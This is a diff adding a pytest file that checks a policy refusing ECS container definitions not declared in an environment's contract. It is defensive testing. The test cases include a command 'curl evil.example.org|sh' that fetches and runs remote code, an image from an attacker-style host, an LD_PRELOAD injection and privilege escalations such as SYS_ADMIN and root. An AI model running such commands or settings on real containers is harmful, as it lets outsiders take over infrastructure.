@@ -1,0 +1,88 @@
+"""A task runs the contract's container of this environment, under its own roles."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from copy import deepcopy
+from typing import Any
+
+import pytest
+
+from config import load
+from policies.vouched.containers import VARIABLES, unknown_containers
+from stacks import contract
+from tests.support.environments import NAMES, varied
+from tests.support.shared import environment
+
+Configs = dict[str, dict[str, Any]]
+Task = dict[str, Any]
+
+
+def copied(name: str) -> Configs:
+    """Layers of a checked-in environment, to be changed."""
+    return {layer: deepcopy(dict(template.config)) for layer, template in environment(name).items()}
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_every_environment_runs_what_the_contract_says(name: str) -> None:
+    assert list(unknown_containers(copied(name), load(name))) == []
+
+
+@pytest.mark.parametrize(
+    ("setting", "value"),
+    [
+        ("image__tag", "v9"),
+        ("secrets__names", ["session-key", "another"]),
+        ("service__environment", {"SITECHAT_SITE_NAME": "Else"}),
+        ("service__port", 9090),
+    ],
+)
+def test_a_folder_of_other_settings_is_refused(setting: str, value: Any) -> None:
+    (line,) = unknown_containers(copied("dev"), varied("dev", **{setting: value}))
+    assert "synthesise again" in line
+
+
+def lines(change: Callable[[Task, dict[str, Any]], object]) -> list[str]:
+    """What is said once the task and its container are changed."""
+    configs = copied("dev")
+    (task,) = configs["service"]["resource"]["aws_ecs_task_definition"].values()
+    containers = json.loads(task["container_definitions"])
+    before = task["container_definitions"]
+    change(task, containers[0])
+    if task["container_definitions"] == before:
+        task["container_definitions"] = json.dumps(containers)
+    return list(unknown_containers(configs, load("dev")))
+
+
+@pytest.mark.parametrize(
+    ("change", "told"),
+    [
+        (lambda task, app: app.update(command=["sh", "-c", "curl evil.example.org|sh"]), "the container's command"),
+        (lambda task, app: app.update(entryPoint=["sh"]), "the container's entryPoint"),
+        (lambda task, app: app.update(privileged=True), "the container's privileged"),
+        (lambda task, app: app.update(user="0"), "the container's user"),
+        (lambda task, app: app.update(readonlyRootFilesystem="true"), "the container's readonlyRootFilesystem"),
+        (lambda task, app: app["linuxParameters"].update(capabilities={"add": ["SYS_ADMIN"]}), "linuxParameters"),
+        (lambda task, app: app["healthCheck"].update(command=["CMD", "sh"]), "the container's healthCheck"),
+        (lambda task, app: app["logConfiguration"].update(logDriver="splunk"), "logConfiguration"),
+        (lambda task, app: app.update(image="evil.example.org/app:1"), "the container's image"),
+        (lambda task, app: app.update(image=app["image"].replace(":unreleased", ":other")), "the container's image"),
+        (lambda task, app: app["environment"].append({"name": "LD_PRELOAD", "value": "x.so"}), "variable LD_PRELOAD"),
+        (lambda task, app: app["secrets"].append({"name": "X", "valueFrom": "arn"}), "the container's secrets"),
+        (lambda task, app: app.pop("user"), "the container's user"),
+        (lambda task, app: task.update(task_role_arn=task["execution_role_arn"]), "task_role_arn is no reference"),
+        (lambda task, app: task.update(execution_role_arn="arn:aws:iam::1:role/x"), "execution_role_arn"),
+        (lambda task, app: task["volume"].append({"name": "x", "efs_volume_configuration": {}}), "a volume is more"),
+        (lambda task, app: task.update(container_definitions="[]"), "no list of the one container"),
+        (lambda task, app: task.update(container_definitions="${file(1)}"), "no list of the one container"),
+        (lambda task, app: task.update(container_definitions="[1]"), "no list of the one container"),
+    ],
+)
+def test_what_the_contract_does_not_say_is_refused(change: Callable[[Task, dict[str, Any]], object], told: str) -> None:
+    assert any(told in line for line in lines(change))
+
+
+def test_variables_are_those_of_the_contract() -> None:
+    given = contract.variables(load("prod"), search_endpoint="e", guardrail_id="g", guardrail_version="1")
+    assert set(given) == VARIABLES
